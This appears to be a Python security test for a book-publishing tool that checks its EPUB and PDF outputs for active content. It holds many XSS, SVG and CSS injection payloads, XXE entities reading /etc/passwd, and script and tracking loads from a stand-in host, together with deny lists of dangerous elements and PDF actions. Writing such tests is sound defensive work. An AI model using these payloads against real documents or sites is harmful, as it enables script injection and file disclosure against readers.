#!/usr/bin/env python3
"""What would run, load or lead elsewhere in a reader's hands, in every form that a manuscript can give it: active.py OCTAVO FOLDER

In a book of octavo's own each is refused at its line, or stands in the outputs as harmless text; in books made for other
tools, which are read with warnings, nothing of it is left either. The outputs are opened and searched.
"""
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as xml
import zipfile
import zlib

HEAD = ("octavo: 1\ntitle: Active\nauthors: [Nobody]\nlanguage: en\n"
        "identifier: urn:uuid:00000000-0000-4000-8000-000000000000\n")

GOOD = "A [good link](https://good.example/).\n"

SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
           "java&#x09;script:alert(1)", "java&#10;script:alert(1)", "%6aavascript:alert(1)", "\\javascript:alert(1)",
           "&#1;javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
           "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E", "//evil.example/x", "blob:x",
           "ftp://evil.example/x", "intent://x", "tel:1", "view-source:http://x.example/", "about:blank", "jar:http://x.example/!/"]

HTML = ["<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
        "<img src=x:alert(1) onerror=eval(src)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>", "<object data=x.swf></object>", "<embed src=x.swf>",
        "<form action=https://evil.example><input name=a></form>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
        "<base href=https://evil.example/>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>a</a>",
        "<a href='java\tscript:alert(1)'>a</a>", "<a href=https://x.example onclick=alert(1)>a</a>", "<p style='background:url(x)'>a</p>",
        "<details open ontoggle=alert(1)>a</details>", "<video src=x onerror=alert(1)></video>", "<audio src=https://evil.example/x></audio>",
        "<math href=javascript:alert(1)>a</math>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<marquee onstart=alert(1)>a</marquee>",
        "<img src=https://evil.example/track.png alt=a>", "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=a>",
        "<td background=javascript:alert(1)>a</td>", "<button formaction=javascript:alert(1)>a</button>", "<isindex action=javascript:alert(1)>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "<?xml-stylesheet href='https://evil.example/x.css'?>",
        "<![CDATA[<script>alert(1)</script>]]>", "<ScRiPt>alert(1)</sCrIpT>", "<a><script>alert(1)</script></a>", "<noscript><img src=x onerror=alert(1)></noscript>",
        "<template><script>alert(1)</script></template>", "<h2 onclick=alert(1)>a</h2>", "<br onload=alert(1)>", "<sub onclick=alert(1)>a</sub>",
        "<ul onclick=alert(1)><li onclick=alert(1)>a</li></ul>", "<table onclick=alert(1)><tr><td onclick=alert(1)>a</td></tr></table>",
        "<a href=\"https://x.example/&quot; onclick=&quot;alert(1)\">a</a>", "<code onclick=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;</code>"]

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" width="90" height="90"'


def svg(body, more=""):
    return f'{OPEN} {more}><rect width="9" height="9"/>{body}</svg>'


DRAWINGS = [
    svg("<script>alert(1)</script>"), svg('<script href="https://evil.example/x.js"/>'), svg("", 'onload="alert(1)"'),
    svg('<rect width="1" height="1" onclick="alert(1)"/>'), svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'),
    svg('<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>'), svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">a</p></foreignObject>'),
    svg('<image href="https://evil.example/x.png" width="9" height="9"/>'), svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    svg('<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E" width="9" height="9"/>'), svg('<use href="https://evil.example/x.svg#a"/>'),
    svg('<use xlink:href="other.svg#a"/>'), svg("<style>@import url(https://evil.example/x.css);</style>"),
    svg("<style>rect { fill: url(https://evil.example/x#a) }</style>"), svg("<style>rect { fill: u\\72l(https://evil.example/x) }</style>"),
    svg('<rect width="1" height="1" style="fill: url(https://evil.example/x#a)"/>'), svg('<rect width="1" height="1" fill="url(https://evil.example/x#a)"/>'),
    svg('<animate attributeName="href" to="javascript:alert(1)"/>'), svg('<set attributeName="onclick" to="alert(1)"/>'),
    svg('<handler type="text/javascript">alert(1)</handler>'), svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
    svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'), svg('<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" width="1" height="1"/>'),
    svg('<feImage href="https://evil.example/x.png"/>'), svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
    '<?xml-stylesheet href="https://evil.example/x.css"?>' + svg(""), '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + svg(""),
    '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + svg("<text>&e;</text>"),
    '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>' + svg(""),
    svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'),
    svg('<text font-family="x" style="src: url(https://evil.example/x.woff)">a</text>'), svg('<metadata><script>alert(1)</script></metadata>'),
    svg("<title><script>alert(1)</script></title>"), svg('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'), svg("<!-- <script>alert(1)</script> -->"),
    svg('<switch><foreignObject/></switch>'), svg('<cursor xlink:href="https://evil.example/x"/>'), svg('<mpath xlink:href="https://evil.example/x"/>'),
]

STYLES = ["p { background: url(https://evil.example/x) }", "@import 'https://evil.example/x.css';", "@IMPORT url(x.css);", "p { background: u\\72l(https://evil.example/x) }",
          "@\\69mport 'x.css';", "p { background: image-set('https://evil.example/x' 1x) }", "p { background: -webkit-image-set(url(x) 1x) }",
          "@font-face { font-family: x; src: url(\"fonts/../../x\") }", "p { -moz-binding: url(x.xml#a) }", "p { behavior: url(x.htc) }",
          "p { width: expression(alert(1)) }", "@font-face { font-family: x; src: src('https://evil.example/x') }", "p { background: URL (x) url( 'https://evil.example/x' ) }"]

SOURCES = ('[{"id": "k", "type": "webpage", "title": "<script>alert(1)</script>", "URL": "javascript:alert(1)", "DOI": "\\" onclick=\\"alert(1)"},'
           ' {"id": "l", "type": "webpage", "title": "T", "URL": "data:text/html,<script>alert(1)</script>", "DOI": "javascript:alert(1)"}]')

# What may not stand in a file of an EPUB, as markup; and where an attribute may lead.
ELEMENTS = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "foreignobject", "animate", "set", "handler", "style", "video",
            "audio", "feimage", "isindex", "applet", "frame", "marquee", "template", "noscript", "include", "animatetransform", "animatemotion"}
LEADING = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset", "{http://www.w3.org/1999/xlink}href"}
WITHIN = re.compile(r"^(?!.*\.\./\.\.)[^:]*$")
WEB = re.compile(r"^(https?://|mailto:)", re.I)
LOADED = {"img", "image", "link", "use"}  # what these name is fetched, and so lies in the book
PDF_WORDS = [b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/ImportData", b"/RichMedia", b"/EmbeddedFile", b"/AA", b"/OpenAction", b"/GoToR",
             b"/GoToE", b"/Movie", b"/Sound", b"/XFA", b"/AcroForm"]


def fail(what, said):
    sys.exit(f"failed: {what}\n{said[:3000]}")


def write(path, content):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(content.encode())


def check_element(where, element):
    name = element.tag.split("}")[-1].lower()
    if name in ELEMENTS or (name == "meta" and element.get("http-equiv")):
        fail(f"{where}: <{name}>", xml.tostring(element, encoding="unicode"))
    for attribute, value in element.attrib.items():
        plain = attribute.split("}")[-1].lower()
        if plain.startswith("on") or (plain == "style" and "url(" in value):
            fail(f"{where}: {attribute}={value}", "")
        leads_out = attribute.lower() in LEADING and not WITHIN.match(value) and (name in LOADED or not WEB.match(value))
        if leads_out or re.search(r"url\((?!#)", value):
            fail(f"{where}: {attribute}={value}", "")


def check_css(where, css):
    if "@import" in css or "\\72l" in css or re.search(r"expression\(|behavior|-moz-binding|image-set|src\(", css):
        fail(f"{where} loads or runs", css)
    for address in re.findall(r"url\((.*?)\)", css):
        if not re.match(r'^"fonts/[\w.-]+"$', address):
            fail(f"{where}: {address}", "")


def check_epub(where, path):
    with zipfile.ZipFile(path) as book:
        for entry in book.namelist():
            if entry.endswith(".css"):
                check_css(f"{where}, {entry}", book.read(entry).decode())
            if not entry.endswith((".xhtml", ".opf", ".ncx", ".xml", ".svg")):
                continue
            content = book.read(entry)
            if b"<!ENTITY" in content or b"<?xml-stylesheet" in content:
                fail(f"{where}, {entry}: a declaration", "")
            for element in xml.fromstring(content).iter():
                check_element(f"{where}, {entry}", element)


# The file as it is, and what its streams hold that are no text or drawing of a page.
def check_pdf(where, path):
    with open(path, "rb") as file:
        content = file.read()
    parts = [re.sub(rb"stream\r?\n.*?endstream", b"", content, flags=re.S)]
    for head, stream in re.findall(rb"<<([^\n]*?/Type ?/ObjStm.*?)>>\s*stream\r?\n(.*?)endstream", content, re.S):
        parts.append(zlib.decompressobj().decompress(stream) if b"FlateDecode" in head else stream)
    for part in parts:
        for word in PDF_WORDS:
            if re.search(re.escape(word) + rb"\b", part):
                fail(f"{where}: {word.decode()}", "")
        for address in re.findall(rb"/URI ?\((.*?)\)", part):
            if not WEB.match(address.decode("latin-1")):
                fail(f"{where}: a link to {address}", "")
    return sum(len(re.findall(rb"/URI ?\(", part)) for part in parts)


def build(what, octavo, book, statuses):
    output = os.path.join(book, "made")
    ended = subprocess.run([octavo, "build", book, "--output", output], stdin=subprocess.DEVNULL, capture_output=True, timeout=120, check=False)
    said = ended.stderr.decode(errors="replace")
    if ended.returncode not in statuses or re.search(r"\[(press-crashed|limit-time|limit-memory)\]$", said, re.M):
        fail(f"{what}: status {ended.returncode}", said)
    if ended.returncode == 0:
        for name in os.listdir(output):
            path = os.path.join(output, name)
            if name.endswith(".epub"):
                check_epub(f"{what}, {name}", path)
            elif check_pdf(f"{what}, {name}", path) == 0:
                fail(f"{what}: the good link was not found, so the search finds nothing", "")
    elif os.path.exists(output):
        fail(f"{what}: an output in spite of errors", said)
    return ended.returncode, said


# Each vector is a paragraph of its own, and so has its line; those that are not refused make a book.
def own(octavo, folder, what, vectors, files=None, more=""):
    def make(name, kept):
        book = os.path.join(folder, f"{what}-{name}")
        write(f"{book}/book.yaml", HEAD + more + "chapters: [{file: a.md, slug: a}]\n")
        for file, content in (files or {}).items():
            write(f"{book}/{file}", content)
        write(f"{book}/a.md", "# A\n\n" + "".join(f"{vector}\n\n" for vector in kept) + GOOD)
        return book
    refused, kept = set(), list(vectors)
    _, said = build(what, octavo, make("all", kept), (0, 1))
    starts, line = [], 3
    for vector in kept:
        starts.append(line)
        line += vector.count("\n") + 2
    for number in re.findall(r"^a\.md:(\d+):\d+: error:", said, re.M):
        refused.add(max(i for i, start in enumerate(starts) if start <= int(number)))
    refused.update(int(number) for number in re.findall(r"^d(\d+)\.svg(?::\d+)*: error:", said, re.M))
    kept = [vector for i, vector in enumerate(kept) if i not in refused]
    if kept:
        status, said = build(f"{what}, the rest", octavo, make("rest", kept), (0,))
    print(f"{what}: {len(refused)} refused at their lines, {len(kept)} harmless", flush=True)


def foreign(octavo, folder, tool, lists):
    book = os.path.join(folder, tool)
    text = "# B\n\n" + GOOD + "\n" + "".join(f"{vector}\n\n" for vector in LINKS + HTML + FIGURES if "&#1;" not in vector)
    for name, content in lists.items():
        write(f"{book}/{name}", content)
    for name, content in PICTURES.items():
        write(f"{book}/{name}", content)
    write(f"{book}/b.md", text)
    build(tool, octavo, book, (0,))
    print(f"{tool}: nothing left", flush=True)


LINKS = [f"[a]({s})" for s in SCHEMES] + [f"[a](<{s.replace('<', '%3C').replace('>', '%3E')}>)" for s in SCHEMES] + [f"<{s}>" for s in SCHEMES]
LINKS += [f"[a][r{i}]\n\n[r{i}]: {s}" for i, s in enumerate(SCHEMES)] + [f"![a]({s})" for s in SCHEMES]
FIGURES = [f"![A picture.](d{i}.svg)" for i in range(len(DRAWINGS))]
PICTURES = {f"d{i}.svg": content for i, content in enumerate(DRAWINGS)}


def main(octavo, folder):
    octavo, folder = os.path.abspath(octavo), os.path.abspath(folder)
    own(octavo, folder, "links", LINKS)
    own(octavo, folder, "html", HTML)
    own(octavo, folder, "drawings", FIGURES, PICTURES)
    own(octavo, folder, "sources", ["Text [@k], [@l]."], {"sources.json": SOURCES}, "bibliography: {file: sources.json, style: notes}\n")
    for i, css in enumerate(STYLES):
        book = os.path.join(folder, f"style-{i}")
        write(f"{book}/book.yaml", HEAD + "style: ./style\nchapters: [{file: a.md, slug: a}]\n")
        write(f"{book}/a.md", "# A\n\nText.\n")
        write(f"{book}/style/page.yaml", "base: octavo\n")
        write(f"{book}/style/book.css", css + "\n")
        status, said = build(f"stylesheet {css}", octavo, book, (1,))
        if not re.search(r"^style/book\.css:1:\d+: error: .* \[style-bad\]$", said, re.M):
            fail(f"stylesheet {css}: no place", said)
    print(f"stylesheets: {len(STYLES)} refused", flush=True)
    foreign(octavo, folder, "mdbook", {"book.toml": '[book]\ntitle = "T"\nsrc = "."\n', "SUMMARY.md": "# Summary\n\n- [B](b.md)\n- [C](javascript:alert(1))\n"})
    foreign(octavo, folder, "honkit", {"book.json": '{"title": "<script>alert(1)</script>"}', "SUMMARY.md": "# Summary\n\n* [B](b.md)\n* [C](javascript:alert\\(1\\))\n"})
    foreign(octavo, folder, "leanpub", {"Book.txt": "b.md\njavascript:alert(1)\n"})
    foreign(octavo, folder, "quarto", {"_quarto.yml": 'project: {type: book}\nbook:\n  title: "<script>alert(1)</script>"\n  chapters: [b.md]\n'})
    foreign(octavo, folder, "folder", {})


main(*sys.argv[1:])
